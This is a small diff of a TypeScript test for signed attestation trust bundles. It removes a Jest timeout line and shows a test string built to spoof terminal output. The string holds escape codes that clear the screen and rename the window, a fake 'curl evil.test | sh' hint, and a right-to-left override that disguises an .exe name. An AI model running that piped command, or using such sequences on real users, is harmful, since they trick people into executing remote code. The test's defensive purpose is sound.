@@ -13,8 +13,6 @@ import type { TrustBundle } from '../../../attestation/trust/bundle';
 import { signTrustBundle } from '../../../attestation/trust/signed-bundle';
 import { makeSigningKey } from '../../support/trust';
 
-jest.setTimeout(60_000);
-
 /** Moves the cursor, in the 7-bit and in the 8-bit form; names the window; ends the line and says what sls would; turns the rest around; hides. */
 const STEERING =
   'x\u001b[2J\u009b2J\u001b]0;mine\u0007\r\nhint: curl evil.test | sh\r\n\u202egnp.exe\u2066\u200b\u2028\ufeffy';
